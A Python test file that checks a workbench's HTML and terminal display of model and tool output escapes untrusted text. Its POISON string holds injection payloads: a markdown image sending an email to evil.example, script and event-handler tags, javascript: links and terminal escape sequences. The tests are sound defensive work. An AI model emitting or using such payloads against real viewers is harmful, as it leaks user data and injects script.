"""What models, servers and tools say is shown as text: nothing in a notebook or a terminal loads or obeys it."""

from __future__ import annotations

import io
import re

import pytest
from rich.console import Console

from workbench import show
from workbench.events import Outcome, RunDone, RunStarted, Tool, ToolAsked, ToolDone, Usage

POISON = (
    "![x](http://evil.example/leak?email=ann) [click](http://evil.example/a) <img src=http://evil.example/i> "
    "<script>alert(1)</script> <a href='javascript:x'>x</a> \x1b]8;;http://evil.example\x07link\x1b]8;;\x07 \x1b[2J"
    ' <svg onload=alert(1)> [link=http://evil.example]x[/link] " onmouseover="alert(1) url(http://evil.example/c)'
)


def events() -> list[object]:
    outcome = Outcome(kind="tool_error", call="c", tool=POISON, message=POISON, result={"content": []})
    started = RunStarted(
        run="r", question=POISON, provider=POISON, model=POISON, is_llm=True, why=POISON, tools=1, trace_id="t"
    )
    return [
        started,
        ToolAsked(run="r", step="s", tool=POISON, arguments={POISON: POISON}),
        ToolDone(run="r", step="s", tool=POISON, outcome=outcome),
        RunDone(run="r", status="failed", answer=POISON, message=POISON, turns=1, calls=1, usage=Usage(), elapsed_us=1),
    ]


def pages() -> list[str]:
    tool = Tool(server="crm", name=POISON, description=POISON, input_schema={"properties": {POISON: {}}})
    outcome = Outcome(kind="ok", call="c", result={"content": [{"type": "text", "text": POISON}]})
    return [
        show.run_html(events()),  # type: ignore[arg-type]
        show.tools_html([tool]),
        show.outcome_html(POISON, {POISON: POISON}, outcome),
    ]


@pytest.mark.parametrize("number", range(3))
def test_html_has_no_element_or_attribute_of_foreign_text(number: int) -> None:
    page = pages()[number]
    for tag in re.findall(r"<([^>]*)>", page):
        assert not re.match(r"/?(img|script|a|svg|iframe|link|object|video|audio|form|input)\b", tag), tag
        assert not re.search(r"\b(src|href|on\w+|srcset)\s*=|url\(", tag), tag


def test_a_terminal_gets_neither_links_nor_commands() -> None:
    out = io.StringIO()
    Console(file=out, force_terminal=True, width=200, color_system=None).print(show.run_tree(events()))  # type: ignore[arg-type]
    said = out.getvalue()
    assert "\x1b]8;" not in said
    assert "\x1b[2J" not in said
    assert "\x07" not in said
